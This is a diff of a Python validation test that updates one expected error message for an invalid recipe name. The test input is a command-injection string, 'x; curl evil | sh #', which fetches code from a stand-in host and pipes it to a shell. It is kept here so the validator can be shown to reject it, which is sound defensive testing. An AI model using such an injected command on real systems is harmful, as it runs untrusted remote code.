@@ -204,7 +204,7 @@ def test_missing_files_are_named(tmp_path: Path) -> None:
         ({"commit": "--help"}, "commit"),
         ({"commit": "ABCDEF"}, "commit"),
         ({"commit": "abcdef++"}, "commit"),
-        ({"recipe": {"name": "x; curl evil | sh #"}}, "recipe: 'x; curl evil | sh #' is not a name"),
+        ({"recipe": {"name": "x; curl evil | sh #"}}, "recipe: name: 'x; curl evil | sh #' is not a name"),
         ({"recipe": {"name": "x\n"}}, "recipe"),
         ({"recipe": {"name": None}}, "recipe: name"),
         ({"recipe": {"name": "x", "note": "a\n```\nb"}}, "recipe: note"),
